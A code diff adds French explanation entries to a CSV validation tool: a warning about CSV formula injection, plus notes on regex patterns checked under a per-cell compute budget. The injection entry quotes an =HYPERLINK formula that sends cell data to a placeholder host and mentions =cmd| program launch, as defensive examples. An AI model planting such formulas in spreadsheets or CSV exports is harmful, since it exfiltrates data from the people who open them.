@@ -329,6 +329,20 @@ export const EXPLANATIONS: Record<string, Explanation> = {
     libreoffice:
       'ouvrez le fichier dans Calc, corrigez la cellule, puis réenregistrez en CSV : Calc écrit les guillemets correctement.',
   },
+  'formula-like-text': {
+    explain:
+      'Excel et LibreOffice exécutent comme une formule une cellule de CSV qui commence par =, ou par +, - ou @ suivis d’un appel de fonction : =HYPERLINK(…) peut envoyer des données ailleurs, =cmd|… peut lancer un programme (injection CSV, OWASP). Ce texte sera publié, puis ouvert par d’autres dans leur tableur. Les nombres (-5, +3,5), les téléphones (+33 1 23 45 67 89) et les pseudonymes (@mairie) ne sont pas concernés.',
+    example: {
+      input: 'commentaire\n=HYPERLINK("http://exemple.invalid/?"&A1)',
+      loc: { fieldNumber: 1, fieldName: 'commentaire' },
+      params: { count: 1, rows: [2], examples: ['=HYPERLINK("http://exemple.invalid/?"&A1)'] },
+    },
+    excel:
+      "vérifiez d’où vient la valeur ; pour garder un texte qui commence par =, tapez une apostrophe devant ('=…), ou mettez la colonne au format Texte avant la saisie.",
+    libreoffice:
+      'tapez une apostrophe devant la valeur, ou Format › Cellules › catégorie « Texte » avant la saisie.',
+    odf: 'odf normalize ne crée jamais de formule en réparant une cellule ; `odf normalize --escape-formulas` préfixe ces cellules d’une apostrophe, comme le conseille l’OWASP.',
+  },
   'french-gps-coordinates': {
     explain:
       'Le schéma attend des coordonnées en France (métropole et outre-mer) écrites « longitude, latitude » en degrés décimaux. Ce point est ailleurs, ou illisible : souvent un signe oublié, une virgule décimale, ou des coordonnées en Lambert 93.',
@@ -461,6 +475,19 @@ export const EXPLANATIONS: Record<string, Explanation> = {
     libreoffice:
       'réécrivez les horaires avec l’assistant openingh.openstreetmap.de/evaluation_tool puis collez le résultat.',
   },
+  'pattern-not-checked': {
+    explain:
+      'Le motif (pattern) du champ utilise une référence arrière (\\1) ou une assertion avant ((?=…)), que les expressions régulières de Table Schema n’ont pas, ou il est très long, et la valeur aussi. odf vérifie tout motif avec un budget de calcul par cellule, pour qu’aucune cellule ne puisse le bloquer ; cette valeur demandait davantage. Elle n’est ni acceptée ni refusée : le rapport le dit plutôt que de deviner.',
+    example: {
+      input: 'code\nabababababababababababababababababababababab!',
+      loc: { line: 2, rowNumber: 2, fieldName: 'code' },
+      value: 'abababababababababababababababababababababab!',
+    },
+    excel: `vérifiez ces valeurs à la main ; ${FIND_EXCEL}`,
+    libreoffice: `vérifiez ces valeurs à la main ; ${FIND_CALC}`,
+    schema:
+      'écrivez le motif sans référence arrière ni assertion (la syntaxe XML Schema de Table Schema) : il est alors toujours vérifié, en temps linéaire.',
+  },
   'personal-data-suspected': {
     explain:
       'Une colonne semble contenir des données personnelles (noms de personnes, adresses électroniques ou téléphones personnels, NIR, IBAN, dates de naissance). Publier ces données sans base légale est interdit (RGPD) ; odf masque ces valeurs dans tous ses rapports.',
@@ -562,6 +589,14 @@ export const EXPLANATIONS: Record<string, Explanation> = {
       params: { reason: 'too-weak', closest: [{ name: 'scdl/budget', version: '0.8.3', score: 0.41 }] },
     },
     odf: 'indiquez le schéma avec --schema (la liste : `odf schemas list --search MOT`) et, si les en-têtes diffèrent, un fichier de correspondance (`odf map`).',
+  },
+  'schema-pattern-budgeted': {
+    explain:
+      'Le motif du champ utilise une référence arrière (\\1, (?P=nom)) ou une assertion avant ((?=…), (?!…)), qui n’existent pas dans les expressions régulières XML Schema de Table Schema. odf le vérifie quand même, avec un budget de calcul par cellule : une valeur qui le dépasse est signalée comme non vérifiée (pattern-not-checked) au lieu de bloquer la validation.',
+    example: { loc: { fieldName: 'site_url' }, params: { feature: 'backreference' } },
+    schema:
+      'réécrivez le motif sans référence arrière ni assertion : odf le vérifie alors en temps linéaire, comme tout motif Table Schema.',
+    odf: SCHEMA_ONLY,
   },
   'schema-pattern-invalid': {
     explain:
